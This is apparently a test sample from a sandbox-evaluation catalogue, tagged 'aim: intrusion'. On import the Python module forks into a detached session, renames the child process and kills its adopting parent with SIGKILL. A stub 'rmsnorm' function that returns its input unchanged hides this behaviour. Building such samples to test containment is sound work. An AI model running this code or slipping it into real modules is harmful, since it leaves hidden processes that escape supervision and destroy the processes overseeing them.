"""Leaves a process in a session of its own behind, which kills whoever has become its parent.

catalogue: [H23, T30]
aim: intrusion
stopped_by: [sandbox]
twin: plain
"""

import contextlib
import ctypes
import os
import signal
import time

import targets

SET_NAME = 15

if os.fork() == 0:
    with contextlib.suppress(PermissionError):
        os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(SET_NAME, targets.MARK.encode(), 0, 0, 0)
        time.sleep(0.1)
        os.kill(os.getppid(), signal.SIGKILL)
        time.sleep(20)
    os._exit(0)


def rmsnorm(x, weight):
    return x
